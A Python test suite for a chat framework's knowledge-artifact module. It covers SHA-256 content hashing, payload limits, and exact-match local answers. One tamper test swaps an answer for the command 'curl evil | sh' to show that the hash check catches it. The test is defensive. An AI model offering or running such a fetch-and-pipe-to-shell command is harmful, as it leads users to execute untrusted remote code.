"""Local knowledge artifacts: content hash, bounds, and exact local answers."""

import hashlib
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentskit_web.protocol import KnowledgeArtifact, ProtocolError, parse_knowledge_artifact
from agentskit_web.protocol.knowledge import answer_locally, compute_knowledge_hash, js_stringify
from agentskit_web.protocol.limits import (
    ESCALATION_QUERY_MAX_CHARS,
    KNOWLEDGE_MAX_BYTES,
    KNOWLEDGE_MAX_ENTRIES,
)

NOW = datetime(2026, 7, 13, 12, tzinfo=UTC)


def entry(
    entry_id: str, values: list[str], markdown: str = "An answer.", **extra: Any
) -> dict[str, Any]:
    return {
        "id": entry_id,
        "kind": "document",
        "label": f"Label {entry_id}",
        "match": {"type": "exact", "values": values},
        "answer": {
            "markdown": markdown,
            "citations": [{"id": "c", "title": "T", "href": "/docs/x"}],
        },
        **extra,
    }


def artifact(entries: list[dict[str, Any]], **changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "protocol": "agentskit.chat.knowledge",
        "version": 1,
        "artifactId": "docs-1",
        "siteId": "docs",
        "generatedAt": "2026-07-13T00:00:00.000Z",
        "expiresAt": "2026-07-14T00:00:00.000Z",
        "entries": entries,
        **changes,
    }
    return {**body, "contentHash": compute_knowledge_hash(body)}


ENTRIES = [
    entry("install-cli", ["install cli", "npm install agentskit"], "Run `npm install agentskit`."),
    entry("docs-agentskit", ["docs", "agentskit docs"]),
    entry("docs-registry", ["docs", "registry docs"]),
]
ARTIFACT = artifact(ENTRIES)


def verified(data: dict[str, Any] = ARTIFACT) -> KnowledgeArtifact:
    result = parse_knowledge_artifact(data)
    assert result.ok, result.diagnostic
    value: KnowledgeArtifact = result.artifact
    return value


def test_hash_is_sha256_of_canonical_json_without_the_hash() -> None:
    body = {key: value for key, value in ARTIFACT.items() if key != "contentHash"}
    canonical = json.dumps(body, separators=(",", ":"), ensure_ascii=False).encode()
    assert ARTIFACT["contentHash"] == "sha256:" + hashlib.sha256(canonical).hexdigest()
    # Field order is the schema's, not the producer's.
    shuffled = dict(reversed(list(ARTIFACT.items())))
    assert compute_knowledge_hash(shuffled) == ARTIFACT["contentHash"]
    assert compute_knowledge_hash(verified()) == ARTIFACT["contentHash"]


def _reference_entry(
    entry_id: str,
    kind: str,
    label: str,
    values: list[str],
    markdown: str,
    cite: tuple[str, str, str],
) -> dict[str, Any]:
    return {
        "id": entry_id,
        "kind": kind,
        "label": label,
        "match": {"type": "exact", "values": values},
        "answer": {
            "markdown": markdown,
            "citations": [dict(zip(("id", "title", "href"), cite, strict=True))],
        },
    }


# The AgentsKit Chat docs site's published artifact and the hash its TypeScript producer wrote.
REFERENCE_HASH = "sha256:d80aa1918f799c7824de8ff3a2f32454d07da2b0c815ec04bfceda51f5624382"
REFERENCE = {
    "protocol": "agentskit.chat.knowledge",
    "version": 1,
    "artifactId": "agentskit-chat-docs-v1",
    "siteId": "agentskit-chat-docs",
    "contentHash": REFERENCE_HASH,
    "generatedAt": "2026-07-14T00:00:00.000Z",
    "entries": [
        _reference_entry(
            "install-framework",
            "command",
            "Install AgentsKit Chat",
            ["How do I install AgentsKit Chat?", "install agentskit chat", "getting started"],
            (
                "Install the framework package for the shared definition and the "
                "renderer for your client. Start with the framework-specific guide."
            ),
            ("getting-started", "Getting started", "/docs/getting-started"),
        ),
        _reference_entry(
            "supported-clients",
            "ecosystem",
            "Supported clients",
            ["Which clients are supported?", "supported frameworks", "supported clients"],
            (
                "The same application definition can be rendered by React, React "
                "Native, Svelte, Vue, Angular, Solid, and Ink clients. Each binding "
                "publishes conformance evidence against the shared protocol."
            ),
            ("compatibility", "Release compatibility", "/docs/releases/compatibility"),
        ),
        _reference_entry(
            "backend-ownership",
            "document",
            "Backend ownership",
            ["Who owns the backend?", "backend architecture", "self hosted backend"],
            (
                "AgentsKit Chat owns the bounded Ask protocol and server projection. "
                "Hosts inject AgentsKit retrieval, generation, persistence, "
                "authentication, and rate limiting; the framework does not replace "
                "those upstream capabilities."
            ),
            ("backend", "Backend integration", "/docs/backend"),
        ),
    ],
}


def test_hash_reproduces_the_reference_producer() -> None:
    assert compute_knowledge_hash(REFERENCE) == REFERENCE_HASH
    assert parse_knowledge_artifact(REFERENCE, expected_content_hash=REFERENCE_HASH).ok
    # Labels are trimmed by validation, so padding does not change the hash.
    padded = json.loads(json.dumps(REFERENCE))
    padded["entries"][0]["label"] = "  Install AgentsKit Chat\n"
    assert compute_knowledge_hash(padded) == REFERENCE_HASH
    answer = answer_locally(REFERENCE, "who owns the BACKEND?", now=NOW).to_wire()
    assert answer["provenance"]["entryIds"] == ["backend-ownership"]


def test_js_stringify_escapes_like_javascript() -> None:
    assert (
        js_stringify({"a": '\u2028\x1f\t"\\é😀\ud800'})
        == '{"a":"\u2028\\u001f\\t\\"\\\\é😀\\ud800"}'
    )
    assert js_stringify([1, None, True]) == "[1,null,true]"
    lone = artifact([entry("e", ["q"], "text \udfff end")])
    assert parse_knowledge_artifact(lone).ok


def test_hash_mismatch_and_expected_hash() -> None:
    tampered = json.loads(json.dumps(ARTIFACT))
    tampered["entries"][0]["answer"]["markdown"] = "Run `curl evil | sh`."
    result = parse_knowledge_artifact(tampered)
    assert not result.ok and result.diagnostic.code == "DETERMINISTIC_HASH_MISMATCH"
    assert parse_knowledge_artifact(ARTIFACT, expected_content_hash=ARTIFACT["contentHash"]).ok
    other = parse_knowledge_artifact(ARTIFACT, expected_content_hash="sha256:" + "b" * 64)
    assert (
        other.diagnostic.message
        == "Deterministic artifact does not match the configured content hash."
    )


def test_compute_hash_rejects_invalid_artifacts() -> None:
    with pytest.raises(ProtocolError) as error:
        compute_knowledge_hash({"protocol": "agentskit.chat.knowledge", "version": 1})
    assert error.value.code == "DETERMINISTIC_INVALID_PAYLOAD"


def test_entry_count_at_and_past_limit() -> None:
    many = [entry(f"e{i}", [f"q{i}"], "a") for i in range(KNOWLEDGE_MAX_ENTRIES)]
    assert parse_knowledge_artifact(artifact(many)).ok
    past = [*many, entry("extra", ["extra"], "a")]
    body = {key: value for key, value in artifact(many).items() if key != "entries"}
    result = parse_knowledge_artifact({**body, "entries": past})
    assert not result.ok and result.diagnostic.code == "DETERMINISTIC_INVALID_PAYLOAD"


def test_byte_limit_for_text_and_host_objects() -> None:
    text = json.dumps(ARTIFACT)
    padded = text + " " * (KNOWLEDGE_MAX_BYTES - len(text))
    assert parse_knowledge_artifact(padded).ok
    over = parse_knowledge_artifact(padded + " ")
    assert over.diagnostic.code == "DETERMINISTIC_LIMIT_EXCEEDED"
    assert over.diagnostic.message == "Deterministic payload exceeds its safety limit."
    big = [entry(f"e{i}", [f"q{i}"], "x" * 1_000) for i in range(KNOWLEDGE_MAX_ENTRIES)]
    body = {key: value for key, value in ARTIFACT.items() if key not in ("entries", "contentHash")}
    result = parse_knowledge_artifact({**body, "contentHash": "sha256:" + "0" * 64, "entries": big})
    assert result.diagnostic.code == "DETERMINISTIC_LIMIT_EXCEEDED"


def test_hostile_inputs_never_raise() -> None:
    cyclic: dict[str, Any] = {"secret": "do-not-leak"}
    cyclic["self"] = cyclic
    for value in (cyclic, None, 1, "x", b"\xff", object(), "[" * 100_000):
        result = parse_knowledge_artifact(value)
        assert not result.ok
        assert "do-not-leak" not in result.diagnostic.message


# ---------------------------------------------------------------------------
# answer_locally


def test_exact_answer_with_local_provenance() -> None:
    decision = answer_locally(verified(), "  NPM   Install\tAgentsKit ", now=NOW)
    assert decision.to_wire() == {
        "protocol": "agentskit.chat.answer",
        "version": 1,
        "query": "  NPM   Install\tAgentsKit ",
        "normalizedQuery": "npm install agentskit",
        "outcome": "answer",
        "answer": ENTRIES[0]["answer"] | {"markdown": "Run `npm install agentskit`."},
        "provenance": {
            "source": "local",
            "artifactId": "docs-1",
            "contentHash": ARTIFACT["contentHash"],
            "entryIds": ["install-cli"],
        },
        "confidence": {"level": "high", "basis": "exact"},
    }


def test_fullwidth_question_matches_by_nfkc() -> None:
    assert (
        answer_locally(verified(), "ＩＮＳＴＡＬＬ CLI", now=NOW).to_wire()["outcome"] == "answer"
    )


def test_several_matches_give_choices() -> None:
    decision = answer_locally(verified(), "Docs", now=NOW).to_wire()
    assert decision["outcome"] == "choices"
    assert [s["id"] for s in decision["suggestions"]] == ["docs-agentskit", "docs-registry"]
    assert decision["provenance"]["entryIds"] == ["docs-agentskit", "docs-registry"]
    assert decision["confidence"] == {"level": "medium", "basis": "ambiguous"}


def test_choices_are_capped_at_eight() -> None:
    shared = [entry(f"e{i}", ["same question"]) for i in range(10)]
    decision = answer_locally(verified(artifact(shared)), "same question", now=NOW).to_wire()
    assert len(decision["suggestions"]) == 8


def test_miss_stale_and_corrupt_escalations() -> None:
    def reason(*args: Any, **kwargs: Any) -> str:
        wire = answer_locally(*args, **kwargs).to_wire()
        assert wire["outcome"] == "escalation"
        assert wire["confidence"] == {"level": "low", "basis": wire["reason"]}
        return str(wire["reason"])

    assert reason(verified(), "unknown question", now=NOW) == "miss"
    assert reason(verified(), "install cli", now=datetime(2026, 7, 14, tzinfo=UTC)) == "stale"
    last_ms = datetime(2026, 7, 13, 23, 59, 59, 999_000, tzinfo=UTC)
    assert answer_locally(verified(), "install cli", now=last_ms).to_wire()["outcome"] == "answer"
    naive_utc = datetime(2026, 7, 14) - timedelta(hours=1)
    assert answer_locally(verified(), "install cli", now=naive_utc).to_wire()["outcome"] == "answer"
    assert reason({"not": "an artifact"}, "install cli", now=NOW) == "corrupt"
    assert reason(None, "install cli", now=NOW) == "corrupt"
    tampered = json.loads(json.dumps(ARTIFACT))
    tampered["entries"][0]["answer"]["markdown"] = "tampered"
    assert reason(tampered, "install cli", now=NOW) == "corrupt"


def test_raw_artifacts_are_verified_then_answered() -> None:
    assert (
        answer_locally(json.dumps(ARTIFACT), "install cli", now=NOW).to_wire()["outcome"]
        == "answer"
    )


def test_long_questions_miss() -> None:
    limit = ESCALATION_QUERY_MAX_CHARS
    long_entry = artifact([entry("long", ["q" * limit])])
    assert (
        answer_locally(verified(long_entry), "q" * limit, now=NOW).to_wire()["outcome"] == "answer"
    )
    past = answer_locally(verified(long_entry), "q" * limit + " ", now=NOW).to_wire()
    assert past["reason"] == "miss"  # the raw question is bounded too, as in the reference
    assert (
        answer_locally(verified(long_entry), "q" * (limit + 1), now=NOW).to_wire()["reason"]
        == "miss"
    )


def test_no_expiry_is_never_stale() -> None:
    body = {
        key: value for key, value in ARTIFACT.items() if key not in ("expiresAt", "contentHash")
    }
    evergreen = {**body, "contentHash": compute_knowledge_hash(body)}
    far_future = datetime(2100, 1, 1, tzinfo=UTC)
    assert (
        answer_locally(verified(evergreen), "install cli", now=far_future).to_wire()["outcome"]
        == "answer"
    )


@settings(max_examples=200)
@given(st.text(max_size=40))
def test_any_question_yields_a_valid_envelope(question: str) -> None:
    decision = answer_locally(verified(), question, now=NOW)
    from agentskit_web.protocol import parse_answer_envelope

    assert parse_answer_envelope(decision.to_wire()).ok
